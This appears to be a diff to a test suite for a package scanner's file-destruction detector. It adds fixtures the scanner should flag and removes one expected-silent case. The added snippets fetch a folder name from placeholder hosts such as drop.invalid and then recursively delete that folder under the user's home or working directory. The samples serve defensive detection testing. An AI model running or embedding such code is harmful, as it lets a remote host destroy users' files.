@@ -326,14 +326,32 @@ examine(destroysFiles, {
       },
       weight: 'strong',
     },
+    {
+      when: 'a folder that a host names is written to before it is deleted',
+      files: {
+        'index.js': `${FS} fetch('https://drop.invalid/place').then(answer => answer.text()).then(name => { const at = path.join(os.homedir(), name); fs.writeFileSync(path.join(at, '.inert'), ''); fs.rmSync(at, { recursive: true }); });`,
+      },
+      weight: 'strong',
+      says: ['deletes what drop.invalid names'],
+    },
+    {
+      when: 'a folder that a host names would be moved before it is deleted',
+      files: {
+        'index.js': `${FS} fetch('https://drop.invalid/place').then(answer => answer.text()).then(name => { const at = path.join(os.homedir(), name, 'inert'); try { fs.renameSync(at, path.join(os.tmpdir(), 'inert')); } catch { fs.rmSync(at, { recursive: true }); } });`,
+      },
+      weight: 'strong',
+      says: ['deletes what drop.invalid names'],
+    },
+    {
+      when: 'whoever calls it has it unpack a version that a service names, and that is cleared up',
+      files: {
+        'index.js': `${FS} const tar = require('tar'); exports.update = async () => { const { version } = await (await fetch('https://cloud.specimen.invalid/client')).json(); const at = path.join(process.cwd(), '.specimen', version, 'client'); try { await tar.extract({ file: 'client.tgz', cwd: at }); } catch { fs.rmSync(at, { recursive: true, force: true }); } };`,
+      },
+      weight: 'weak',
+      says: ['deletes what cloud.specimen.invalid names'],
+    },
   ],
   silent: [
-    {
-      when: 'what a service names was put there by the package itself',
-      files: {
-        'index.js': `const fs = require('fs'), path = require('path'); fetch('https://cloud.specimen.invalid/client').then(answer => answer.json()).then(({ version }) => { const at = path.join(process.cwd(), '.specimen', version + '-new'); try { fs.renameSync(at, path.join(process.cwd(), '.specimen', version)); } catch { fs.rmSync(at, { recursive: true, force: true }); } });`,
-      },
-    },
     {
       when: 'each page gets a test beside it',
       files: {
